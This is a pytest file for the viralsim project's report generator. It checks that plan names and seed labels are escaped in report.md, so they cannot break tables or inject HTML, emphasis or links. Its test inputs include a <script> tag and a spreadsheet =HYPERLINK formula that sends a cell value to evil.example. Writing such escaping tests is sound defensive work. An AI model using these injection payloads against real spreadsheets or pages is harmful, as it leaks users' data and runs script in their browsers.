"""User text in report.md is escaped (issue 20 #6): a plan's name or a seed's label
cannot add a table column, run HTML, or become emphasis, code or a link."""

import csv
import re

import pytest

from viralsim import report

hydra = pytest.importorskip("hydra")

from omegaconf import OmegaConf  # noqa: E402

from viralsim import app  # noqa: E402

from .app_helpers import cfg_of  # noqa: E402

NAME = "a|b <script>x</script> *y* `z` [l](http://evil.example) _u_"
SEED = '=HYPERLINK("http://evil.example/?x="&A1,"click")|<b>'
CELL = re.compile(r"(?<!\\)\|")  # a column separator: a | not escaped


def _tables(text):
    """Each Markdown table of ``text`` as a list of rows of cells."""
    tables, cur = [], []
    for line in text.splitlines() + [""]:
        if line.startswith("|"):
            cur.append([c.strip() for c in CELL.split(line.strip())[1:-1]])
        elif cur:
            tables.append(cur)
            cur = []
    return tables


def _check_tables(text):
    tables = _tables(text)
    assert tables
    for t in tables:
        widths = {len(r) for r in t}
        assert widths == {len(t[0])}, t  # every row as wide as the header
    return tables


def test_escape_md_keeps_text_readable():
    assert report.escape_md("most_followers") == "most_followers"  # no emphasis mid-word
    assert report.escape_md("=1+2") == "=1+2"
    assert report.escape_md("a\nb") == "a b"
    assert report.escape_md("&lt;") == "&amp;lt;"  # shown as typed


def test_markdown_table_with_hostile_plan_name():
    rows = [{"plan": NAME, "k": 1, "mean": 3.0, "ci_low": 2.0, "ci_high": 4.0, "n_sims": 10,
             "elapsed": 0.1}]
    md = report.markdown_table(rows)
    (t,) = _check_tables(md)
    assert len(t[0]) == len(t[2]) and "<script>" not in md
    assert t[2][0].startswith(r"a\|b &lt;script&gt;x&lt;/script&gt; \*y\* \`z\` \[l\]")


def test_campaign_report_md_escapes_plan_names_and_seed_labels(tmp_path):
    f, c = tmp_path / "f.csv", tmp_path / "c.csv"
    with open(f, "w", newline="") as fh:
        w = csv.writer(fh)
        w.writerows([["source", "target"], [SEED, "bob"], [SEED, "cid"], ["bob", "cid"],
                     ["cid", "dan"]])
    with open(c, "w", newline="") as fh:
        csv.writer(fh).writerows([["id", "cost"], [SEED, 1], ["bob", 1], ["cid", 1], ["dan", 1]])
    cfg = cfg_of("formats=[png]", "experiment=campaign", "graph=follower_csv", f"graph.path={f}",
                 f"graph.consumers={c}", "experiment.costs.attr=cost", "experiment.n_sims=200",
                 "experiment.budgets=[10]")
    OmegaConf.update(cfg, "experiment.plans",
                     [{"name": NAME, "seeds": [SEED, "bob"]}, {"name": "plain", "seeds": ["dan"]}],
                     force_add=True)
    app.run(cfg, str(tmp_path / "run"), quiet=True)
    text = (tmp_path / "run" / "report.md").read_text()
    assert "<script>" not in text and "<b>" not in text
    assert "&lt;script&gt;" in text and "&lt;b&gt;" in text
    tables = _check_tables(text)
    # the ranked table and the target list both hold the hostile texts as one cell each
    cells = {c for t in tables for r in t for c in r}
    assert report.escape_md(NAME) in cells
    assert report.escape_md(SEED) in cells
    # outside the tables too (the sentences that name the best plan, the target list's
    # heading): the whole name, escaped
    said = 0
    for line in text.splitlines():
        if "x&lt;/script&gt;" in line and not line.startswith("|"):
            assert report.escape_md(NAME) in line, line
            said += 1
    assert said >= 2
